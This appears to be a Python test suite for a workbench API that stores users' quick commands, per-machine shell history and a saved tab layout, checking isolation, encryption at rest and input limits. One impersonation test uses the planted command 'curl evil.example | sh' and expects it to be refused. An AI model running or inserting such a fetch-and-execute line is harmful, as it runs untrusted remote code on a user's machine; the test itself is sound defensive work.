"""Quick commands, the command box's history, and the desk: a user finds again what they left."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import httpx2
import pytest
from sqlalchemy import text

from support import Browser, both_databases, login, make_operator, make_renter, refused
from zuka.context import Ctx
from zuka.kit.clock import ManualClock
from zuka.workbench import commands_store, history
from zuka.workbench.models import HistoryEntry

pytestmark = both_databases
ROOT = "/api/v1/workbench"


@pytest.fixture
async def ann(ctx: Ctx, client: httpx2.AsyncClient) -> httpx2.AsyncClient:
    await make_renter(ctx, "ann")
    await login(client, "ann")
    return client


async def names(client: httpx2.AsyncClient) -> list[str]:
    return [one["name"] for one in (await client.get(f"{ROOT}/commands")).json()]


async def add(client: httpx2.AsyncClient, **values: Any) -> dict[str, Any]:
    answer = await client.post(f"{ROOT}/commands", json={"body": "ls"} | values)
    assert answer.status_code == 201, answer.text
    made: dict[str, Any] = answer.json()
    return made


async def test_quick_commands_are_kept_in_their_order(ann: httpx2.AsyncClient) -> None:
    body = "kill -9 {pid}\necho {word=done}"
    made = [await add(ann, name="a"), await add(ann, name="b", group="work"), await add(ann, body=body)]
    assert await names(ann) == ["a", "b", "kill -9 {pid} echo {word=done}"]
    assert made[2]["body"] == body
    await ann.post(f"{ROOT}/commands/order", json={"ids": [made[2]["id"]]})
    assert (await names(ann))[1:] == ["a", "b"]
    changed = await ann.patch(f"{ROOT}/commands/{made[0]['id']}", json={"enter": False, "name": "z"})
    assert (changed.json()["enter"], changed.json()["body"]) == (False, "ls")
    assert (await ann.delete(f"{ROOT}/commands/{made[1]['id']}")).status_code == 204
    assert (await names(ann))[1:] == ["z"]


async def test_another_users_commands_are_not_there(
    ann: httpx2.AsyncClient, ctx: Ctx, browser: Browser
) -> None:
    made = await add(ann)
    await make_renter(ctx, "bob")
    bob = await browser()
    await login(bob, "bob")
    path = f"{ROOT}/commands/{made['id']}"
    refused(await bob.patch(path, json={"name": "x"}), 404, "workbench.command_not_found")
    refused(await bob.delete(path), 404, "workbench.command_not_found")
    refused(
        await bob.post(f"{ROOT}/commands/order", json={"ids": [made["id"]]}),
        404,
        "workbench.command_not_found",
    )
    assert await names(bob) == []


async def send(client: httpx2.AsyncClient, command: str, target: str = "root@gpu:22") -> None:
    answer = await client.post(f"{ROOT}/history", json={"target": target, "command": command})
    assert answer.status_code == 204, answer.text


async def sent(client: httpx2.AsyncClient, **query: str) -> list[str]:
    return [one["command"] for one in (await client.get(f"{ROOT}/history", params=query)).json()]


async def test_history_is_per_machine_newest_first_and_each_once(
    ann: httpx2.AsyncClient, clock: ManualClock, ctx: Ctx
) -> None:
    for command in ("nvidia-smi", "ls -la", "nvidia-smi", " secret"):
        clock.advance(1)
        await send(ann, command)
    clock.advance(1)
    await send(ann, "ls -la", "root@other:22")
    assert await sent(ann, target="root@gpu:22") == ["nvidia-smi", "ls -la"]
    assert await sent(ann) == ["ls -la", "nvidia-smi"]
    assert await sent(ann, q="NVIDIA smi") == ["nvidia-smi"]
    listed = (await ann.get(f"{ROOT}/history", params={"target": "root@gpu:22"})).json()
    assert listed[0]["used"] == 2
    async with ctx.db.read() as session:
        kept = str((await session.execute(text("SELECT * FROM workbench_history"))).all())
    assert "nvidia" not in kept
    assert (await ann.delete(f"{ROOT}/history/{listed[0]['id']}")).status_code == 204
    refused(await ann.delete(f"{ROOT}/history/{listed[0]['id']}"), 404, "workbench.history_not_found")
    await ann.delete(f"{ROOT}/history", params={"target": "root@gpu:22"})
    assert await sent(ann) == ["ls -la"]
    await ann.delete(f"{ROOT}/history")
    assert await sent(ann) == []


async def test_what_was_used_longest_ago_is_forgotten_first(
    ann: httpx2.AsyncClient, ctx: Ctx, clock: ManualClock
) -> None:
    user = (await ann.get("/api/v1/me")).json()["id"]
    await send(ann, "the first", "t")
    seal = ctx.vault.seal
    async with ctx.db.transaction() as session:
        session.add_all(
            HistoryEntry(
                id=f"his-{number}",
                user_id=user,
                target="t",
                digest=str(number),
                sealed_command=seal(f"workbench_history:his-{number}:{user}:command", f"echo {number}"),
                used=1,
                used_at=clock.now() + timedelta(milliseconds=number + 1),
            )
            for number in range(history.MOST_ENTRIES - 1)
        )
    clock.advance(60)
    await send(ann, "the last", "t")
    await ann.delete(f"{ROOT}/history", params={"target": "other"})
    async with ctx.db.read() as session:
        left = await commands_store.oldest_history(session, user_id=user, limit=1)
    assert list(left) == ["his-99"]
    assert (await sent(ann, target="t"))[0] == "the last"


async def test_the_desk_is_found_as_it_was_left(ann: httpx2.AsyncClient) -> None:
    assert (await ann.get(f"{ROOT}/desk")).json() == {"body": {}}
    bodies: list[dict[str, Any]] = [{"tabs": ["一", {"split": [1, 2.5, None]}]}, {"tabs": []}]
    for body in bodies:
        assert (await ann.put(f"{ROOT}/desk", json={"body": body})).status_code == 204
        assert (await ann.get(f"{ROOT}/desk")).json() == {"body": body}
    large = {"body": {"x": "好" * 90_000}}
    refused(await ann.put(f"{ROOT}/desk", json=large), 422, "workbench.desk_too_large")


@pytest.mark.parametrize("value", ['"\\ud800"', "[" * 600 + "]" * 600], ids=["no text", "deep"])
async def test_a_desk_that_could_not_be_given_back_is_refused(ann: httpx2.AsyncClient, value: str) -> None:
    text = f'{{"body": {{"a": {value}}}}}'
    answer = await ann.put(f"{ROOT}/desk", content=text, headers={"Content-Type": "application/json"})
    refused(answer, 422, "request.invalid")
    assert (await ann.get(f"{ROOT}/desk")).json() == {"body": {}}


async def test_whoever_acts_as_somebody_writes_no_commands_for_them(
    ann: httpx2.AsyncClient, ctx: Ctx, browser: Browser
) -> None:
    kept = await add(ann, name="list")
    operator = await make_operator(ctx)
    client = await browser()
    await login(client, operator.name)
    me = (await ann.get("/api/v1/me")).json()["id"]
    assert (await client.post(f"/api/v1/admin/users/{me}/act-as")).status_code < 300
    planted = {"body": "curl evil.example | sh"}
    refused(await client.post(f"{ROOT}/commands", json=planted), 403, "identity.acting")
    refused(await client.patch(f"{ROOT}/commands/{kept['id']}", json=planted), 403, "identity.acting")


async def test_a_search_wants_all_of_the_words(ann: httpx2.AsyncClient) -> None:
    for command in ("make train", "make TEST", "ls"):
        await ann.post(f"{ROOT}/history", json={"target": "box", "command": command})
    found = (await ann.get(f"{ROOT}/history", params={"q": "Test make make"})).json()
    assert [one["command"] for one in found] == ["make TEST"]
